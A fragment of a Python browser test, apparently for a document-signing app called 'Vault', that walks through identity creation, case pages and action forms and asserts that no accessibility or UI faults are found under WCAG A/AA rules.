    window, found = Vault(practice, context), []

    def look(name: str) -> None:
        found.extend(f"{name}: {fault}" for fault in faults_of(window.tab))

    window.go("/", "#identity")
    window.tab.click("text=Make a new identity")
    look("locked")
    window.unlock("birch")
    look("home")
    for page, wait in (("case", ".face"), ("letter", ".sheet"), ("note", "#note")):
        window.go(f"/{page}/{case}", wait)
        look(page)
    for act in ("decision.propose", "secrecy.record", "item.change", "cost.record", "duty.done"):
        window.go(f"/act/{case}/{act}?item=1", ".questions")
        look(act)
        window.tab.click("text=Show what I sign")
        window.tab.wait_for_selector(".fault, .problem, #sign-title")
        look(f"{act}, pressed")
    window.go(f"/case/{taken['many.pdf']}", ".face")
    window.tab.click("button:text-is('Pages')")
    inside = sheet(window, 1)
    look("pages")
    # The frame is a part of a page that has its heading.
    found.extend(f"frame: {one}" for one in violations(inside, runOnly=["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]))
    window.go(f"/case/{case}", ".face")
    window.tick("country")
    window.tab.locator(".sticky button.act").press("Enter")
    window.tab.wait_for_selector("#sign-title")
    look("sign")
    context.close()
    assert found == []
